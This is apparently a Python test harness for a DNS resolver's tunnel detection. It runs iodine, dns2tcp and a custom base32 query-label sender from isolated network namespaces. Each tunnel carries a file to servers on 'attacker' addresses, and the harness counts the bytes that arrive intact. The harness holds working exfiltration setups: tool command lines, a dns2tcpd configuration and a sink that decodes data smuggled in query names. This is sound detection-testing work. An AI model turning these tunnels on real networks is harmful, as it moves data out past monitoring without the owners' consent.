"""Live tunnels through the resolver under test: iodine and dns2tcp, carrying a file up.

A third, "plain", is ours: one label of base32 a question and nothing else.  QNAME
minimisation breaks the other two by accident (their servers take the shorter
questions for data); this one it cannot break, so it shows what detection does there.

A tunnel has a number N.  Its client lives in a network namespace of its own,
joined to the lab by a veth pair (10.77.N.1 on the lab's side, 10.77.N.2 in the
client's), because both ends in one namespace would let the kernel deliver the
packets locally and the tunnel would carry nothing.  Both tools ask port 53 of the
name server they are told, so the resolver under test must listen on 10.77.N.1@53,
and the namespaces must be made (Client.open) before it starts.  Their servers
listen on the attacker addresses 127.66.N.1 of the lab.

What counts is what really arrived: a sink at the server's end compares every byte
with the file, and says how many of them were right.
"""

import base64
import binascii
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

import dns

HERE = os.path.dirname(os.path.abspath(__file__))
FILE_BYTES = 1 << 20
SINK_PORT = 9000

MODES = ["iodine-" + kind for kind in ("NULL", "TXT", "CNAME", "MX", "SRV", "A")] + \
    ["dns2tcp-TXT", "dns2tcp-KEY", "plain-A", "plain-TXT"]


def tool(name):
    path = shutil.which(name) or "/usr/sbin/" + name
    if not os.path.exists(path):
        raise RuntimeError("%s is not installed" % name)
    return path


def attackers():
    """[(zone without the final dot, address)] in the lab's order; N counts from 1."""
    with open(os.environ["LAB_ATTACKERS"]) as table:
        rows = [line.rstrip("\n").split("\t") for line in table]
    return [(origin[:-1], address) for origin, _, address in rows]


def can_use_tun():
    return os.path.exists("/dev/net/tun") and os.access("/dev/net/tun", os.R_OK | os.W_OK) and \
        shutil.which("iodine", path="/usr/sbin:/usr/bin") is not None and \
        subprocess.run(["ip", "tuntap", "add", "mode", "tun", "name", "probe0"],
                       stderr=subprocess.DEVNULL).returncode == 0 and \
        subprocess.run(["ip", "link", "del", "probe0"]).returncode == 0


class Sink:
    """Takes what comes through the tunnel and compares it with the file."""

    def __init__(self, address, payload):
        self.payload, self.right, self.wrong = payload, 0, 0
        self.first_at = self.last_at = None
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.listener.bind(address)
        self.listener.listen(4)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.take, args=(connection,), daemon=True).start()

    def take(self, connection):
        at = 0
        with connection:
            while True:
                try:
                    data = connection.recv(65536)
                except OSError:
                    return
                if not data:
                    return
                good = sum(a == b for a, b in zip(data, self.payload[at:at + len(data)]))
                self.right, self.wrong = self.right + good, self.wrong + len(data) - good
                at += len(data)
                self.last_at = time.monotonic()
                self.first_at = self.first_at or self.last_at

    def close(self):
        self.listener.close()


class Client:
    """A network namespace for one tunnel's client, with a veth pair to the lab."""

    def __init__(self, number):
        self.number = number
        self.lab_side, self.address = "10.77.%d.1" % number, "10.77.%d.2" % number
        self.holder = None

    def open(self):
        """Makes the namespace; held by a process that only waits for its input to close."""
        self.holder = subprocess.Popen(["unshare", "-n", "cat"], stdin=subprocess.PIPE,
                                       stdout=subprocess.DEVNULL, start_new_session=True)
        mine = os.readlink("/proc/self/ns/net")
        end = time.monotonic() + 5
        while os.readlink("/proc/%d/ns/net" % self.holder.pid) == mine:
            if time.monotonic() > end:
                raise RuntimeError("no second network namespace")
            time.sleep(0.01)
        near, far = "sk%d" % self.number, "tc%d" % self.number
        self.ip("link", "add", near, "type", "veth", "peer", "name", far, "netns",
                str(self.holder.pid))
        self.ip("addr", "add", self.lab_side + "/30", "dev", near)
        self.ip("link", "set", near, "up")
        for words in (("addr", "add", self.address + "/30", "dev", far), ("link", "set", far, "up"),
                      ("link", "set", "lo", "up")):
            subprocess.run(self.command(["ip"] + list(words)), check=True)
        return self

    def ip(self, *words):
        subprocess.run(["ip"] + list(words), check=True)

    def command(self, words):
        return ["nsenter", "-t", str(self.holder.pid), "-n", "--"] + words

    def close(self):
        if self.holder:
            self.holder.stdin.close()
            self.holder.wait(5)
            self.holder = None


def listen_for(clients):
    return ["%s@53" % client.lab_side for client in clients]


class Tunnel:
    """One tunnel: server, client, sink, sender.  Subclasses know the tool."""

    HANDSHAKE = None    # what the client logs once its server has answered the first step

    def is_handshaken(self):
        try:
            with open(self.folder + "/client.log", "rb") as log:
                return self.HANDSHAKE is not None and self.HANDSHAKE in log.read()
        except OSError:
            return False

    def __init__(self, client, mode, folder, payload):
        self.client, self.mode, self.payload = client, mode, payload
        self.kind = mode.split("-")[1]
        self.folder = os.path.join(folder, "tunnel-%d-%s" % (client.number, mode))
        os.makedirs(self.folder, exist_ok=True)
        self.zone, self.server_address = attackers()[client.number - 1]
        self.children, self.sink = [], None
        self.begun_at = None

    def spawn(self, words, name, wait=True):
        with open("%s/%s.log" % (self.folder, name), "ab") as log:
            # A group that can be ended together, but no session: the kernel shares the CPUs among
            # sessions before it looks at anybody's niceness (sched(7), autogroup).
            child = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=log, stderr=log,
                                     process_group=0)
        self.children.append(child)
        return child

    def send_file(self, host, port):
        """In the client's namespace: connects again and again, then sends the file."""
        path = self.folder + "/file"
        with open(path, "wb") as out:
            out.write(self.payload)
        self.spawn(self.client.command([sys.executable, HERE + "/send_file", host, str(port),
                                        path]), "sender")

    def start(self):
        self.begun_at = time.monotonic()
        self.start_server()
        self.start_client()
        return self

    def arrived(self):
        return self.sink.right if self.sink else 0

    def stop(self):
        for child in reversed(self.children):
            if child.poll() is None:
                try:
                    os.killpg(child.pid, signal.SIGTERM)
                except ProcessLookupError:
                    pass
        for child in self.children:
            try:
                child.wait(2)
            except subprocess.TimeoutExpired:
                os.killpg(child.pid, signal.SIGKILL)
                child.wait()
        if self.sink:
            self.sink.close()

    def report(self):
        rate = 0.0
        if self.sink and self.sink.first_at:
            rate = self.arrived() / max(0.1, self.sink.last_at - self.sink.first_at) / 1024
        return "%-12s %8d bytes arrived%s" % (
            self.mode, self.arrived(), ", %.1f KB/s" % rate if rate else "")


class Iodine(Tunnel):
    HANDSHAKE = b"Version ok"

    def start_server(self):
        inner = "10.99.%d.1" % self.client.number
        device = "srv%d" % self.client.number
        self.spawn([tool("iodined"), "-f", "-c", "-P", "lab", "-d", device, "-l",
                    self.server_address, "-n", self.server_address, inner + "/30", self.zone],
                   "server")
        end = time.monotonic() + 5
        while True:
            try:
                self.sink = Sink((inner, SINK_PORT), self.payload)
                break
            except OSError:
                if time.monotonic() > end or self.children[0].poll() is not None:
                    raise RuntimeError("iodined did not come up: see %s" % self.folder)
                time.sleep(0.05)
        self.inner = inner

    def start_client(self):
        self.spawn(self.client.command([
            tool("iodine"), "-f", "-r", "-P", "lab", "-d", "cli%d" % self.client.number, "-T",
            self.kind, "-I", "1", self.client.lab_side, self.zone]), "client")
        self.send_file(self.inner, SINK_PORT)


class Dns2tcp(Tunnel):
    HANDSHAKE = b"Session created"
    LOCAL_PORT = 2222

    def start_server(self):
        self.sink = Sink((self.server_address, SINK_PORT), self.payload)
        path = self.folder + "/dns2tcpd.conf"
        with open(path, "w") as conf:
            conf.write("listen = %s\nport = 53\ndomain = %s\n"
                       "resources = up:%s:%d\n" % (self.server_address, self.zone,
                                                   self.server_address, SINK_PORT))
        # Cut off from its client it turns without rest: it must not turn on others' time.
        self.spawn(["nice", "-n", "10", tool("dns2tcpd"), "-F", "-d", "1", "-f", path], "server")

    def start_client(self):
        self.spawn(self.client.command([
            tool("dns2tcpc"), "-d", "1", "-z", self.zone, "-r", "up", "-l", str(self.LOCAL_PORT),
            "-T", self.kind, self.client.lab_side]), "client")
        self.send_file("127.0.0.1", self.LOCAL_PORT)


class NameSink:
    """An authoritative server that keeps what the names under its zone carry."""

    CHUNK = 32

    def __init__(self, address, zone, payload):
        self.zone, self.payload = zone + ".", payload
        self.seen, self.wrong = set(), 0
        self.first_at = self.last_at = None
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 53))
        threading.Thread(target=self.serve, daemon=True).start()

    @property
    def right(self):
        return len(self.seen) * self.CHUNK

    def serve(self):
        while True:
            try:
                data, peer = self.socket.recvfrom(4096)
                self.socket.sendto(self.answer(data), peer)
            except dns.Malformed:
                continue
            except OSError:
                return

    def take(self, label):
        try:
            data = base64.b32decode(label.upper())
        except binascii.Error:
            return
        number = int.from_bytes(data[:3], "big")
        if data[3:] == self.payload[number * self.CHUNK:(number + 1) * self.CHUNK]:
            self.seen.add(number)
        else:
            self.wrong += 1
        self.last_at = time.monotonic()
        self.first_at = self.first_at or self.last_at

    def answer(self, data):
        """NOERROR with one record for any name below the zone; the zone itself has none."""
        message = dns.parse(data)
        name, rrtype, _ = message.question
        question = data[12:12 + len(message.raw_name) + 4]
        record = b""
        if name != self.zone and name.endswith("." + self.zone) and rrtype in (1, 16):
            label = name[:-len(self.zone) - 1]
            if len(label) == 56:
                self.take(label)
            body = b"\x14\x05\x01\x02" if rrtype == 1 else b"\2ok"
            record = b"\xc0\x0c" + struct.pack("!HHIH", rrtype, 1, 0, len(body)) + body
        return data[:2] + struct.pack("!5H", 0x8400, 1, bool(record), 0, 0) + question + record

    def close(self):
        self.socket.close()


class Plain(Tunnel):
    def start_server(self):
        self.sink = NameSink(self.server_address, self.zone, self.payload)

    def start_client(self):
        path = self.folder + "/file"
        with open(path, "wb") as out:
            out.write(self.payload)
        self.spawn(self.client.command([sys.executable, HERE + "/send_names", self.client.lab_side,
                                        self.zone, self.kind, path]), "client")


TOOLS = {"iodine": Iodine, "dns2tcp": Dns2tcp, "plain": Plain}


def make(client, mode, folder, payload):
    return TOOLS[mode.split("-")[0]](client, mode, folder, payload)


def run_all(tunnels, seconds, enough):
    """Runs them side by side for `seconds`; one that has moved `enough` bytes is ended early."""
    end = time.monotonic() + seconds
    for tunnel in tunnels:
        tunnel.start()
    live = list(tunnels)
    while live and time.monotonic() < end:
        for tunnel in [t for t in live if t.arrived() >= enough]:
            tunnel.stop()
            live.remove(tunnel)
        time.sleep(0.1)
    for tunnel in live:
        tunnel.stop()
